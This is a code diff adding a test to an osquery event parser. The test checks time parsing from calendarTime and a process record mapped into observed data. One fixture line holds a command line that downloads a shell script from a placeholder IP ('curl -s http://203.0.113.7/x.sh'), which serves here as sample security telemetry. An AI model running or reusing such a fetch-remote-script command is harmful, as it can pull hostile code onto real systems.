@@ -150,6 +150,15 @@ describe('osquery', () => {
     expect(byId(diff, anchor.host_ref)).toMatchObject({ hostname: 'build-07.corp.example' });
   });
 
+  it('takes the event time from calendarTime (C asctime text, UTC) when unixTime is not there', () => {
+    const event = recognised(fixture('osquery', 'calendar-time-only.json'), 'osquery');
+    expect(event.observedData).toMatchObject({ first_observed: '2024-06-04T07:05:09Z' });
+    expect(byId(event, anchorOf(event).process_ref)).toMatchObject({
+      pid: 5120,
+      command_line: 'curl -s http://203.0.113.7/x.sh',
+    });
+  });
+
   it('maps snapshot rows one process per row', () => {
     if (snapshot === undefined) throw new Error('no event');
     expect(
